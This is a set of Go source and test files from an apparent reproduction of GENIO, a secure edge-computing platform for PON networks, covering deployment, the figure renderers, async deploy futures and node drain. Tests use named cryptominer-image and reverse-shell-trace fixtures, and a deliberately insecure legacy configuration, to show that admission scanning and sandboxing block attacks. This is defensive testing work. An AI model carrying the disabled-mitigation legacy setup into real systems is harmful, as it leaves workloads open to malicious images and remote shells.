	if onu.Port() == 0 {
		t.Fatal("ONU has no port")
	}
	if _, err := p.AttachONU("ghost-olt", "onu-0002"); !errors.Is(err, ErrNoNode) {
		t.Fatalf("err = %v, want ErrNoNode", err)
	}
}

func TestSecureDeployPipeline(t *testing.T) {
	p := securePlatform(t)
	addNode(t, p, "olt-01")
	pushSigned(t, p, container.AnalyticsImage())
	allowDeploy(t, p, "acme-ci", "acme")
	w, err := p.Deploy("acme-ci", orchestrator.WorkloadSpec{
		Name: "analytics", Tenant: "acme", ImageRef: "acme/analytics:2.0.1",
		Isolation: orchestrator.IsolationSoft,
		Resources: orchestrator.Resources{CPUMilli: 500, MemoryMB: 512},
	})
	if err != nil {
		t.Fatalf("Deploy: %v", err)
	}
	if w.Node != "olt-01" {
		t.Fatalf("scheduled on %s", w.Node)
	}
}

func TestMaliciousImageBlockedAtAdmission(t *testing.T) {
	p := securePlatform(t)
	addNode(t, p, "olt-01")
	pushSigned(t, p, container.CryptominerImage())
	allowDeploy(t, p, "shady-ci", "shady")
	_, err := p.Deploy("shady-ci", orchestrator.WorkloadSpec{
		Name: "optimizer", Tenant: "shady", ImageRef: "freestuff/optimizer:latest",
		Isolation: orchestrator.IsolationSoft,
		Resources: orchestrator.Resources{CPUMilli: 500, MemoryMB: 512},
	})
	if !errors.Is(err, orchestrator.ErrDenied) {
		t.Fatalf("err = %v, want ErrDenied", err)
	}
	counts := p.IncidentCounts()
	if counts["admission"] == 0 {
		t.Fatal("no admission incident recorded")
	}
}

func TestLegacyPlatformAdmitsMaliciousImage(t *testing.T) {
	p := legacyPlatform(t)
	addNode(t, p, "olt-01")
	p.Registry.Push(container.CryptominerImage(), nil) // unsigned is fine here
	if _, err := p.Deploy("anyone", orchestrator.WorkloadSpec{
		Name: "optimizer", Tenant: "shady", ImageRef: "freestuff/optimizer:latest",
		Isolation: orchestrator.IsolationSoft,
		Resources: orchestrator.Resources{CPUMilli: 500, MemoryMB: 512},
	}); err != nil {
		t.Fatalf("legacy deploy rejected: %v", err)
	}
}

func TestRuntimePipelineBlocksAndDetects(t *testing.T) {
	p := securePlatform(t)
	addNode(t, p, "olt-01")
	pushSigned(t, p, container.AnalyticsImage())
	allowDeploy(t, p, "acme-ci", "acme")
	if _, err := p.Deploy("acme-ci", orchestrator.WorkloadSpec{
		Name: "web", Tenant: "acme", ImageRef: "acme/analytics:2.0.1",
		Isolation: orchestrator.IsolationSoft,
		Resources: orchestrator.Resources{CPUMilli: 500, MemoryMB: 512},
	}); err != nil {
		t.Fatal(err)
	}
	events := trace.ReverseShellTrace("web", "acme")
	executed := p.ObserveRuntime(events)
	if executed >= len(events) {
		t.Fatal("sandbox did not truncate the attack")
	}
	counts := p.IncidentCounts()
	if counts["sandbox"] == 0 {
		t.Fatal("no sandbox incident")
	}
}

func TestLegacyRuntimeMissesAttack(t *testing.T) {
	p := legacyPlatform(t)
	events := trace.ReverseShellTrace("web", "acme")
	executed := p.ObserveRuntime(events)
	if executed != len(events) {
		t.Fatal("legacy platform truncated the attack")
	}
	if len(p.Incidents()) != 0 {
		t.Fatalf("legacy platform recorded incidents: %+v", p.Incidents())
	}
}

func TestDetectionOnlyConfig(t *testing.T) {
	cfg := LegacyConfig()
	cfg.RuntimeMonitoring = true
	p, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	events := trace.ReverseShellTrace("web", "acme")
	executed := p.ObserveRuntime(events)
	if executed != len(events) {
		t.Fatal("detection-only config blocked execution")
	}
	counts := p.IncidentCounts()
	if counts["falco"] == 0 {
		t.Fatal("falco recorded nothing")
	}
}

func TestTenantQuotaDefaultApplied(t *testing.T) {
	p := securePlatform(t)
	addNode(t, p, "olt-01")
	pushSigned(t, p, container.AnalyticsImage())
	allowDeploy(t, p, "greedy-ci", "greedy")
	spec := orchestrator.WorkloadSpec{
		Tenant: "greedy", ImageRef: "acme/analytics:2.0.1",
		Isolation: orchestrator.IsolationSoft,
		Resources: orchestrator.Resources{CPUMilli: 900, MemoryMB: 900},
	}
	var lastErr error
	deployed := 0
	for i := 0; i < 5; i++ {
		spec.Name = "w" + string(rune('a'+i))
		if _, err := p.Deploy("greedy-ci", spec); err != nil {
			lastErr = err
			break
		}
		deployed++
	}
	if deployed >= 5 {
		t.Fatal("quota never triggered")
	}
	if !errors.Is(lastErr, orchestrator.ErrQuotaExceeded) {
		t.Fatalf("err = %v, want ErrQuotaExceeded", lastErr)
	}
}

func TestRogueONURejectedOnSecurePlatform(t *testing.T) {
	p := securePlatform(t)
	n := addNode(t, p, "olt-01")
	// A rogue device bypasses AttachONU and tries the OLT directly.
	rogue := pon.NewONU("onu-rogue", nil)
	if err := n.OLT.Activate(rogue); err == nil {
		t.Fatal("rogue ONU activated on authenticated PON")
	}
}

func TestFigure1Rendering(t *testing.T) {
	p := securePlatform(t)
	addNode(t, p, "olt-01")
	addNode(t, p, "olt-02")
	if _, err := p.AttachONU("olt-01", "onu-0001"); err != nil {
		t.Fatal(err)
	}
	out := p.RenderDeployment()
	for _, needle := range []string{"CLOUD", "EDGE", "FAR-EDGE", "olt-01", "olt-02", "onu-0001", "orchestrator"} {
		if !strings.Contains(out, needle) {
			t.Errorf("figure 1 missing %q", needle)
		}
	}
	layers := p.Deployment()
	if len(layers) != 3 {
		t.Fatalf("layers = %d, want 3", len(layers))
	}
}

func TestFigure2Rendering(t *testing.T) {
	p := securePlatform(t)
	out := p.RenderArchitecture()
	for _, needle := range []string{"INFRASTRUCTURE", "MIDDLEWARE", "APPLICATION", "MACsec", "Falco", "Kubernetes"} {
		if !strings.Contains(out, needle) {
			t.Errorf("figure 2 missing %q", needle)
		}
	}
	// On the secure platform every security component is on.
	for _, c := range p.Architecture() {
		if !c.Enabled {
			t.Errorf("secure platform has %q disabled", c.Component)
		}
	}
	// On the legacy platform the mitigations are off.
	lp := legacyPlatform(t)
	enabled := 0
	for _, c := range lp.Architecture() {
		if c.Enabled {
			enabled++
		}
	}
	if enabled >= len(lp.Architecture()) {
		t.Fatal("legacy platform shows everything enabled")
	}
}
