package core

import (
	"fmt"
	"sort"
	"strings"
)

// This file regenerates the paper's two architectural figures as structured
// output: Figure 1 (deployment across cloud, edge, and far-edge layers) and
// Figure 2 (the software architecture per layer).

// DeploymentLayer summarizes one layer of Figure 1.
type DeploymentLayer struct {
	Name     string   `json:"name"`
	Role     string   `json:"role"`
	Elements []string `json:"elements"`
}

// Deployment returns the Figure-1 reproduction for this platform instance.
func (p *Platform) Deployment() []DeploymentLayer {
	p.nodeMu.RLock()
	nodeNames := make([]string, 0, len(p.nodes))
	onusPerNode := make(map[string][]string, len(p.nodes))
	for name, n := range p.nodes {
		nodeNames = append(nodeNames, name)
		onusPerNode[name] = n.OLT.ActiveONUs()
		sort.Strings(onusPerNode[name])
	}
	p.nodeMu.RUnlock()
	sort.Strings(nodeNames)

	cloud := DeploymentLayer{
		Name: "cloud",
		Role: "orchestration center; high compute/storage for latency-tolerant tasks",
		Elements: []string{
			"orchestrator: " + p.Cluster.Name,
			"certificate authority: " + p.CA.Certificate().Subject,
			"image registry (" + fmt.Sprint(len(p.Registry.List())) + " images)",
		},
	}
	edge := DeploymentLayer{
		Name: "edge",
		Role: "OLTs in central offices repurposed as edge compute hubs",
	}
	for _, n := range nodeNames {
		edge.Elements = append(edge.Elements,
			fmt.Sprintf("OLT %s (%d ONUs attached)", n, len(onusPerNode[n])))
	}
	farEdge := DeploymentLayer{
		Name: "far-edge",
		Role: "ONUs at customer premises with low-end compute for ultra-low latency",
	}
	for _, n := range nodeNames {
		for _, serial := range onusPerNode[n] {
			farEdge.Elements = append(farEdge.Elements, fmt.Sprintf("ONU %s (via %s)", serial, n))
		}
	}
	return []DeploymentLayer{cloud, edge, farEdge}
}

// RenderDeployment renders Figure 1 as text.
func (p *Platform) RenderDeployment() string {
	var b strings.Builder
	b.WriteString("GENIO deployment (Figure 1 reproduction)\n")
	for _, layer := range p.Deployment() {
		fmt.Fprintf(&b, "\n[%s] %s\n", strings.ToUpper(layer.Name), layer.Role)
		for _, e := range layer.Elements {
			fmt.Fprintf(&b, "  - %s\n", e)
		}
	}
	return b.String()
}

// ArchComponent is one entry of the Figure-2 architecture inventory.
type ArchComponent struct {
	Layer     string `json:"layer"`
	Component string `json:"component"`
	Role      string `json:"role"`
	Enabled   bool   `json:"enabled"`
}

// Architecture returns the Figure-2 reproduction: the software stack per
// layer with the live enablement state of each security component.
func (p *Platform) Architecture() []ArchComponent {
	cfg := p.Config
	return []ArchComponent{
		{Layer: "infrastructure", Component: "ONL Linux (Debian 10)", Role: "OLT host OS", Enabled: true},
		{Layer: "infrastructure", Component: "OS hardening (OpenSCAP/STIG/KHC)", Role: "M1/M2", Enabled: cfg.HardenOS},
		{Layer: "infrastructure", Component: "MACsec + G.987.3 payload encryption", Role: "M3", Enabled: cfg.PONMode != 0 && cfg.PONMode.String() != "plaintext"},
		{Layer: "infrastructure", Component: "PKI mutual node authentication", Role: "M4", Enabled: cfg.PONMode.String() == "authenticated"},
		{Layer: "infrastructure", Component: "Secure Boot + Measured Boot (Shim/TPM)", Role: "M5", Enabled: cfg.SecureBoot},
		{Layer: "infrastructure", Component: "LUKS/Clevis sealed storage", Role: "M6", Enabled: cfg.SealedStorage},
		{Layer: "infrastructure", Component: "Tripwire file integrity monitoring", Role: "M7", Enabled: cfg.FIMEnabled},
		{Layer: "middleware", Component: "KVM virtual machines (hard isolation)", Role: "workload isolation", Enabled: true},
		{Layer: "middleware", Component: "Kubernetes + Proxmox orchestration", Role: "scheduling", Enabled: true},
		{Layer: "middleware", Component: "ONOS + VOLTHA SDN", Role: "PON management", Enabled: true},
		{Layer: "middleware", Component: "RBAC least privilege", Role: "M10", Enabled: cfg.RBACEnabled},
		{Layer: "middleware", Component: "NSA/CIS benchmark compliance", Role: "M11", Enabled: cfg.ClusterSettings.RBACEnabled || cfg.ClusterSettings.TLSOnAPIServer},
		{Layer: "application", Component: "Image signature verification", Role: "supply chain", Enabled: cfg.VerifyImageSignatures},
		{Layer: "application", Component: "SCA + docker-bench + YARA admission", Role: "M13/M16", Enabled: cfg.AdmissionScanning},
		{Layer: "application", Component: "KubeArmor sandboxing", Role: "M17", Enabled: cfg.SandboxEnabled},
		{Layer: "application", Component: "Falco runtime monitoring", Role: "M18", Enabled: cfg.RuntimeMonitoring},
	}
}

// RenderArchitecture renders Figure 2 as text.
func (p *Platform) RenderArchitecture() string {
	var b strings.Builder
	b.WriteString("GENIO software architecture (Figure 2 reproduction)\n")
	current := ""
	for _, c := range p.Architecture() {
		if c.Layer != current {
			current = c.Layer
			fmt.Fprintf(&b, "\n[%s]\n", strings.ToUpper(current))
		}
		state := "off"
		if c.Enabled {
			state = "on"
		}
		fmt.Fprintf(&b, "  %-42s %-14s [%s]\n", c.Component, c.Role, state)
	}
	return b.String()
}
