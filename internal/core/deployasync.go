package core

// Asynchronous deploy futures (control-plane API v2): DeployAsync returns
// a *Deployment handle immediately and runs the admission pipeline on its
// own goroutine, so callers pipeline deployments instead of barriering on
// each one. Every state transition of the future —
//
//	pending -> scanning -> placing -> running
//	                    \-> rejected
//	                    \-> cancelled
//
// is published on the spine's deploy.lifecycle topic (keyed by workload,
// so per-deployment order is preserved) and mirrored to the optional
// WithOnTransition callback. Exactly one terminal event is ever emitted
// per deployment, whatever the interleaving of Cancel, deadline expiry,
// and pipeline completion: the transition guard drops anything after a
// terminal state.
//
// Watch is the streaming consumer of the same topic: a selector-filtered
// channel of lifecycle events, closed when the caller's context ends.

import (
	"context"
	"errors"
	"sync"

	"genio/internal/events"
	"genio/internal/orchestrator"
)

// DeployState is one state of the asynchronous deployment lifecycle.
type DeployState string

// Lifecycle states. Pending, scanning, and placing are transient;
// running, rejected, and cancelled are terminal.
const (
	// StatePending: the future exists, the pipeline has not started.
	StatePending DeployState = "pending"
	// StateScanning: image pull and the admission fan-out are running.
	StateScanning DeployState = "scanning"
	// StatePlacing: admission passed; reservation and scheduling run.
	StatePlacing DeployState = "placing"
	// StateRunning: the workload is placed (terminal success).
	StateRunning DeployState = "running"
	// StateRejected: the control plane refused the deployment (terminal;
	// Result returns the typed rejection).
	StateRejected DeployState = "rejected"
	// StateCancelled: the deployment's context was cancelled or expired
	// before placement (terminal; Result returns a *CancelledError).
	StateCancelled DeployState = "cancelled"
)

// Terminal reports whether the state ends the lifecycle.
func (s DeployState) Terminal() bool {
	return s == StateRunning || s == StateRejected || s == StateCancelled
}

// LifecycleEvent is the payload of deploy.lifecycle spine events: one
// state transition of one asynchronous deployment.
type LifecycleEvent struct {
	Workload string      `json:"workload"`
	Tenant   string      `json:"tenant,omitempty"`
	From     DeployState `json:"from,omitempty"`
	State    DeployState `json:"state"`
	// Node is set on the running transition: where the workload landed.
	Node string `json:"node,omitempty"`
	// Detail carries the rejection or cancellation error on terminal
	// failures.
	Detail string `json:"detail,omitempty"`
	// AtMs is the platform-clock time (zero without a clock).
	AtMs int64 `json:"atMs,omitempty"`
}

// DeployOption configures one DeployAsync call.
type DeployOption func(*deployOptions)

type deployOptions struct {
	onTransition func(LifecycleEvent)
}

// WithOnTransition registers a callback invoked synchronously on the
// deployment's own goroutine for every lifecycle transition (after the
// event is published on the spine). The callback must be fast, must not
// call back into Flush/Close, and must not wait on the deployment's own
// Done/Result: the terminal transition's callback runs before Done
// closes (Done is documented to close after the terminal event has been
// published), so blocking on either from the callback deadlocks the
// deployment permanently.
func WithOnTransition(fn func(LifecycleEvent)) DeployOption {
	return func(o *deployOptions) { o.onTransition = fn }
}

// Deployment is an asynchronous deployment future returned by
// DeployAsync. Safe for concurrent use.
type Deployment struct {
	p      *Platform
	spec   orchestrator.WorkloadSpec
	cancel context.CancelFunc
	done   chan struct{}

	onTransition func(LifecycleEvent)

	mu    sync.Mutex
	state DeployState

	// w and err are written exactly once, before done closes; Done/Result
	// observers synchronize through the channel close.
	w   *orchestrator.Workload
	err error
}

// Spec returns the deployment's requested spec.
func (d *Deployment) Spec() orchestrator.WorkloadSpec { return d.spec }

// State returns the current lifecycle state.
func (d *Deployment) State() DeployState {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.state
}

// Done returns a channel closed when the deployment reaches a terminal
// state (after its terminal lifecycle event has been published).
func (d *Deployment) Done() <-chan struct{} { return d.done }

// Result blocks until the deployment is terminal and returns its
// outcome: the placed workload, or the typed rejection/cancellation
// error. Exactly one of the pair is non-nil.
func (d *Deployment) Result() (*orchestrator.Workload, error) {
	<-d.done
	return d.w, d.err
}

// Cancel aborts the deployment: the pipeline stops at its next
// cancellation point (scanners poll between files), the workload is
// never placed, and Result reports a *orchestrator.CancelledError.
// Cancelling a terminal deployment is a no-op; Cancel never blocks.
func (d *Deployment) Cancel() { d.cancel() }

// DeployAsync starts a deployment and returns its future. The pipeline —
// RBAC, verified pull, admission fan-out, reservation, scheduling — runs
// on its own goroutine under a context derived from ctx: cancelling ctx
// (or Deployment.Cancel, or a deadline) aborts it between stages and
// inside scans without placing the workload or leaking pool goroutines.
// The only synchronous failure is a closed platform (*ClosedError).
func (p *Platform) DeployAsync(ctx context.Context, subject string, spec orchestrator.WorkloadSpec, opts ...DeployOption) (*Deployment, error) {
	if p.closed.Load() {
		return nil, &ClosedError{Op: "deploy"}
	}
	var o deployOptions
	for _, opt := range opts {
		opt(&o)
	}
	dctx, cancel := context.WithCancel(ctx)
	d := &Deployment{
		p: p, spec: spec, cancel: cancel,
		done: make(chan struct{}), state: StatePending,
		onTransition: o.onTransition,
	}
	go d.run(dctx, subject)
	return d, nil
}

// run drives the pipeline to a terminal state. Every lifecycle event —
// pending included — is emitted on this goroutine, which is what makes
// the exactly-one-terminal-event guarantee cheap, keeps the callback
// contract (one goroutine, every transition), and means DeployAsync
// itself never blocks on spine backpressure. Pending is the first emit,
// so per-deployment order on the lifecycle topic always starts there.
func (d *Deployment) run(ctx context.Context, subject string) {
	defer d.cancel() // release the derived context whatever the outcome
	d.emit(LifecycleEvent{Workload: d.spec.Name, Tenant: d.spec.Tenant, State: StatePending})
	// placed, not w, carries the node for the running event: it is the
	// commit-time snapshot, safe to read while a concurrent failover
	// rewrites the live *Workload.
	w, placed, err := d.p.deployObserved(ctx, subject, d.spec, func(stage orchestrator.DeployStage) {
		switch stage {
		case orchestrator.StageScanning:
			d.transition(StateScanning, "", "")
		case orchestrator.StagePlacing:
			d.transition(StatePlacing, "", "")
		}
	})
	d.w, d.err = w, err
	switch {
	case err == nil:
		d.transition(StateRunning, placed.Node, "")
	case errors.Is(err, orchestrator.ErrCancelled):
		d.transition(StateCancelled, "", err.Error())
	default:
		d.transition(StateRejected, "", err.Error())
	}
	close(d.done)
}

// transition advances the lifecycle and emits the event. Transitions out
// of a terminal state are dropped — the exactly-one-terminal-event
// guarantee.
func (d *Deployment) transition(to DeployState, node, detail string) {
	d.mu.Lock()
	if d.state.Terminal() {
		d.mu.Unlock()
		return
	}
	from := d.state
	d.state = to
	d.mu.Unlock()
	d.emit(LifecycleEvent{
		Workload: d.spec.Name, Tenant: d.spec.Tenant,
		From: from, State: to, Node: node, Detail: detail,
	})
}

// emit stamps and publishes one lifecycle event, then mirrors it to the
// per-deployment callback. Lifecycle telemetry is observer-dependent:
// with no deploy.lifecycle subscriber registered, the publish is elided
// entirely so the un-watched deploy hot path pays nothing for the topic
// (a subscriber registered mid-deployment starts seeing events from its
// next transition). Publishing after platform Close degrades to a drop:
// the lifecycle of a closed platform is not observable.
func (d *Deployment) emit(ev LifecycleEvent) {
	if d.p.now != nil && ev.AtMs == 0 {
		ev.AtMs = d.p.now()
	}
	if d.p.spine.HasSubscribers(events.TopicDeployLifecycle) {
		_ = d.p.spine.Publish(events.Event{
			Topic: events.TopicDeployLifecycle, Key: ev.Workload, AtMs: ev.AtMs, Payload: ev,
		})
	}
	if d.onTransition != nil {
		d.onTransition(ev)
	}
}

// WatchSelector filters a lifecycle watch. The zero value matches every
// event.
type WatchSelector struct {
	// Tenant, when non-empty, matches only that tenant's deployments.
	Tenant string
	// Workload, when non-empty, matches only that workload.
	Workload string
	// TerminalOnly drops the transient states (pending, scanning,
	// placing).
	TerminalOnly bool
}

func (s WatchSelector) match(ev LifecycleEvent) bool {
	if s.Tenant != "" && ev.Tenant != s.Tenant {
		return false
	}
	if s.Workload != "" && ev.Workload != s.Workload {
		return false
	}
	if s.TerminalOnly && !ev.State.Terminal() {
		return false
	}
	return true
}

// Watch streams deploy.lifecycle events matching sel until ctx ends,
// then closes the returned channel. Delivery is decoupled from the spine
// through an unbounded buffer, so a slow watch consumer never stalls
// shard drainers (or, under Block, publishers). Events published while
// nobody receives are retained in order; events across different
// workloads may interleave differently run to run (per-workload order is
// preserved by the spine's key sharding).
func (p *Platform) Watch(ctx context.Context, sel WatchSelector) (<-chan LifecycleEvent, error) {
	if p.closed.Load() {
		return nil, &ClosedError{Op: "watch"}
	}
	var (
		mu    sync.Mutex
		queue []LifecycleEvent
	)
	notify := make(chan struct{}, 1)
	sub, err := p.spine.Subscribe("deploy-watch", []events.Topic{events.TopicDeployLifecycle},
		func(batch []events.Event) {
			matched := false
			mu.Lock()
			for _, e := range batch {
				if ev, ok := e.Payload.(LifecycleEvent); ok && sel.match(ev) {
					queue = append(queue, ev)
					matched = true
				}
			}
			mu.Unlock()
			if matched {
				select {
				case notify <- struct{}{}:
				default:
				}
			}
		})
	if err != nil {
		if errors.Is(err, events.ErrClosed) {
			return nil, &ClosedError{Op: "watch"}
		}
		return nil, err
	}
	out := make(chan LifecycleEvent)
	go func() {
		defer close(out)
		defer sub.Cancel()
		for {
			select {
			case <-ctx.Done():
				return
			case <-notify:
			}
			for {
				mu.Lock()
				if len(queue) == 0 {
					mu.Unlock()
					break
				}
				ev := queue[0]
				queue = queue[1:]
				mu.Unlock()
				select {
				case out <- ev:
				case <-ctx.Done():
					return
				}
			}
		}
	}()
	return out, nil
}
