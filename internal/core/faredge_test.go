package core

import (
	"errors"
	"testing"

	"genio/internal/container"
	"genio/internal/orchestrator"
)

func farEdgeSpec(name string) orchestrator.WorkloadSpec {
	return orchestrator.WorkloadSpec{
		Name: name, Tenant: "acme", ImageRef: "acme/analytics:2.0.1",
		Resources: orchestrator.Resources{CPUMilli: 300, MemoryMB: 256},
	}
}

func farEdgePlatform(t *testing.T) *Platform {
	t.Helper()
	p := securePlatform(t)
	addNode(t, p, "olt-01")
	if _, err := p.AttachONU("olt-01", "onu-0001"); err != nil {
		t.Fatal(err)
	}
	pushSigned(t, p, container.AnalyticsImage())
	allowDeploy(t, p, "acme-ci", "acme")
	return p
}

func TestDeployFarEdge(t *testing.T) {
	p := farEdgePlatform(t)
	w, err := p.DeployFarEdge("acme-ci", "olt-01", "onu-0001", farEdgeSpec("cam-analytics"))
	if err != nil {
		t.Fatalf("DeployFarEdge: %v", err)
	}
	if w.Serial != "onu-0001" || w.Node != "olt-01" {
		t.Fatalf("workload = %+v", w)
	}
	if w.Spec.Isolation != orchestrator.IsolationSoft {
		t.Fatal("far-edge must force soft isolation")
	}
	if got := len(p.FarEdgeWorkloads("olt-01", "onu-0001")); got != 1 {
		t.Fatalf("FarEdgeWorkloads = %d", got)
	}
}

func TestDeployFarEdgeUnknownONU(t *testing.T) {
	p := farEdgePlatform(t)
	if _, err := p.DeployFarEdge("acme-ci", "olt-01", "onu-ghost", farEdgeSpec("x")); !errors.Is(err, ErrNoONU) {
		t.Fatalf("err = %v, want ErrNoONU", err)
	}
	if _, err := p.DeployFarEdge("acme-ci", "olt-ghost", "onu-0001", farEdgeSpec("x")); !errors.Is(err, ErrNoNode) {
		t.Fatalf("err = %v, want ErrNoNode", err)
	}
}

func TestFarEdgeCapacityEnforced(t *testing.T) {
	p := farEdgePlatform(t)
	// 3 x 300m fits in 1000m; the 4th does not.
	for i := 0; i < 3; i++ {
		if _, err := p.DeployFarEdge("acme-ci", "olt-01", "onu-0001",
			farEdgeSpec("w"+string(rune('a'+i)))); err != nil {
			t.Fatalf("deploy %d: %v", i, err)
		}
	}
	_, err := p.DeployFarEdge("acme-ci", "olt-01", "onu-0001", farEdgeSpec("overflow"))
	if !errors.Is(err, ErrFarEdgeCapacity) {
		t.Fatalf("err = %v, want ErrFarEdgeCapacity", err)
	}
	// Stopping one frees capacity.
	if err := p.StopFarEdge("olt-01", "onu-0001", "wa"); err != nil {
		t.Fatal(err)
	}
	if _, err := p.DeployFarEdge("acme-ci", "olt-01", "onu-0001", farEdgeSpec("retry")); err != nil {
		t.Fatalf("deploy after stop: %v", err)
	}
}

func TestFarEdgeAdmissionStillScans(t *testing.T) {
	p := farEdgePlatform(t)
	// The malicious image is signed by a trusted publisher (insider
	// threat) so it passes signature checks — admission scanning must
	// still reject it at the far edge.
	pushSigned(t, p, container.CryptominerImage())
	spec := farEdgeSpec("optimizer")
	spec.ImageRef = "freestuff/optimizer:latest"
	_, err := p.DeployFarEdge("acme-ci", "olt-01", "onu-0001", spec)
	if err == nil {
		t.Fatal("malicious image deployed to far edge")
	}
	if !errors.Is(err, orchestrator.ErrDenied) {
		t.Fatalf("err = %v, want ErrDenied", err)
	}
}

func TestFarEdgeRBAC(t *testing.T) {
	p := farEdgePlatform(t)
	if _, err := p.DeployFarEdge("stranger", "olt-01", "onu-0001", farEdgeSpec("x")); !errors.Is(err, orchestrator.ErrUnauthorized) {
		t.Fatalf("err = %v, want ErrUnauthorized", err)
	}
}

func TestFarEdgeDuplicateName(t *testing.T) {
	p := farEdgePlatform(t)
	if _, err := p.DeployFarEdge("acme-ci", "olt-01", "onu-0001", farEdgeSpec("dup")); err != nil {
		t.Fatal(err)
	}
	if _, err := p.DeployFarEdge("acme-ci", "olt-01", "onu-0001", farEdgeSpec("dup")); !errors.Is(err, orchestrator.ErrDuplicateName) {
		t.Fatalf("err = %v, want ErrDuplicateName", err)
	}
}

func TestStopFarEdgeErrors(t *testing.T) {
	p := farEdgePlatform(t)
	if err := p.StopFarEdge("olt-01", "onu-0001", "ghost"); !errors.Is(err, ErrNoONU) {
		t.Fatalf("err = %v, want ErrNoONU (no deployments yet)", err)
	}
	if _, err := p.DeployFarEdge("acme-ci", "olt-01", "onu-0001", farEdgeSpec("w")); err != nil {
		t.Fatal(err)
	}
	if err := p.StopFarEdge("olt-01", "onu-0001", "ghost"); !errors.Is(err, orchestrator.ErrNotFound) {
		t.Fatalf("err = %v, want ErrNotFound", err)
	}
}

func TestFarEdgeOnLegacyPlatformSkipsControls(t *testing.T) {
	p := legacyPlatform(t)
	addNode(t, p, "olt-01")
	if _, err := p.AttachONU("olt-01", "onu-0001"); err != nil {
		t.Fatal(err)
	}
	p.Registry.Push(container.CryptominerImage(), nil)
	spec := farEdgeSpec("optimizer")
	spec.ImageRef = "freestuff/optimizer:latest"
	if _, err := p.DeployFarEdge("anyone", "olt-01", "onu-0001", spec); err != nil {
		t.Fatalf("legacy far-edge deploy rejected: %v", err)
	}
}
