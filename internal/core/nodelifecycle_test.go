package core

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"testing"

	"genio/internal/container"
	"genio/internal/events"
	"genio/internal/orchestrator"
)

// drainPlatform is a secure platform with two edge nodes and the signed
// analytics image deployable by "ops" in tenant acme.
func drainPlatform(t *testing.T) *Platform {
	t.Helper()
	p := securePlatform(t)
	t.Cleanup(p.Close)
	addNode(t, p, "olt-01")
	addNode(t, p, "olt-02")
	pushSigned(t, p, container.AnalyticsImage())
	allowDeploy(t, p, "ops", "acme")
	p.Cluster.SetQuota("acme", orchestrator.Resources{})
	return p
}

func deployN(t *testing.T, p *Platform, n int) {
	t.Helper()
	for i := 0; i < n; i++ {
		if _, err := p.Deploy("ops", orchestrator.WorkloadSpec{
			Name: fmt.Sprintf("wl-%d", i), Tenant: "acme", ImageRef: "acme/analytics:2.0.1",
			Isolation: orchestrator.IsolationSoft,
			Resources: orchestrator.Resources{CPUMilli: 200, MemoryMB: 256},
		}); err != nil {
			t.Fatalf("deploy %d: %v", i, err)
		}
	}
}

// TestDrainPublishesNodeDrainEvents: every drain step lands on the
// node.drain spine topic, keyed by node, with the migration targets and
// scores visible to subscribers.
func TestDrainPublishesNodeDrainEvents(t *testing.T) {
	p := drainPlatform(t)
	deployN(t, p, 3)

	var mu sync.Mutex
	var phases []string
	var migrations int
	if _, err := p.Subscribe("drain-witness", []events.Topic{events.TopicNodeDrain},
		func(batch []events.Event) {
			mu.Lock()
			defer mu.Unlock()
			for _, ev := range batch {
				de, ok := ev.Payload.(orchestrator.DrainEvent)
				if !ok {
					t.Errorf("payload = %T", ev.Payload)
					continue
				}
				if ev.Key != de.Node {
					t.Errorf("event keyed %q, want node %q", ev.Key, de.Node)
				}
				phases = append(phases, de.Phase)
				if de.Phase == orchestrator.DrainMigrated {
					migrations++
					if de.Target == "" || de.Score <= 0 {
						t.Errorf("migration event missing target/score: %+v", de)
					}
				}
			}
		}); err != nil {
		t.Fatal(err)
	}

	res, err := p.Drain(context.Background(), "olt-01")
	if err != nil {
		t.Fatal(err)
	}
	p.Flush()
	mu.Lock()
	defer mu.Unlock()
	if migrations != len(res.Migrated) {
		t.Fatalf("spine saw %d migrations, drain reports %d", migrations, len(res.Migrated))
	}
	if len(phases) == 0 || phases[0] != orchestrator.DrainCordoned ||
		phases[len(phases)-1] != orchestrator.DrainCompleted {
		t.Fatalf("phases = %v", phases)
	}
	// The drained node is empty and cordoned; the fleet still runs all 3.
	if got := len(p.Cluster.Workloads()); got != 3 {
		t.Fatalf("workloads after drain = %d", got)
	}
}

// TestDrainCancelledEventOnSpine: a ctx-cancelled drain publishes the
// cancelled phase and the node returns to the schedulable pool.
func TestDrainCancelledEventOnSpine(t *testing.T) {
	p := drainPlatform(t)
	deployN(t, p, 2)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := p.Drain(ctx, "olt-01")
	if !errors.Is(err, orchestrator.ErrCancelled) {
		t.Fatalf("err = %v", err)
	}
	p.Flush()
	var sawCancelled bool
	for _, u := range p.Cluster.Utilization() {
		if u.Node == "olt-01" && u.Cordoned {
			t.Fatal("cancelled drain left cordon")
		}
	}
	if _, err := p.Subscribe("late", []events.Topic{events.TopicNodeDrain}, func([]events.Event) {}); err != nil {
		t.Fatal(err)
	}
	// The cancelled event was published before the late subscriber; use
	// the metric counter to confirm the stopped outcome was recorded.
	for topic, ts := range p.Metrics() {
		if topic == events.TopicNodeDrain && ts.Published > 0 {
			sawCancelled = true
		}
	}
	if !sawCancelled {
		t.Fatal("no node.drain events published for cancelled drain")
	}
}

func TestNodeLifecycleOnClosedPlatform(t *testing.T) {
	p := drainPlatform(t)
	p.Close()
	var closed *ClosedError
	if err := p.Cordon("olt-01"); !errors.As(err, &closed) {
		t.Fatalf("Cordon after Close: %v", err)
	}
	if err := p.Uncordon("olt-01"); !errors.As(err, &closed) {
		t.Fatalf("Uncordon after Close: %v", err)
	}
	if _, err := p.Drain(context.Background(), "olt-01"); !errors.As(err, &closed) {
		t.Fatalf("Drain after Close: %v", err)
	}
}

// TestCordonedNodeSkippedByDeploy: the platform surface honours cordon
// end to end — deploys route around a cordoned OLT.
func TestCordonedNodeSkippedByDeploy(t *testing.T) {
	p := drainPlatform(t)
	if err := p.Cordon("olt-01"); err != nil {
		t.Fatal(err)
	}
	deployN(t, p, 2)
	for _, w := range p.Cluster.Workloads() {
		if w.Node == "olt-01" {
			t.Fatalf("workload %s on cordoned node", w.Spec.Name)
		}
	}
}
