package core

// Durable control-plane state: the platform side of internal/persist.
//
// With a Store installed (WithStore), every durable mutation the
// cluster applies — node joins and failures, cordon flips, placements,
// stops, quotas, clean admission verdicts — plus every incident is
// appended to the store from inside the lock that applied it, so the
// log order is exactly the state machine's serialization order. The
// appends are buffered group-commits: the deploy hot path never waits
// on an fsync.
//
// Periodically (every snapshotEvery records, and on graceful Close)
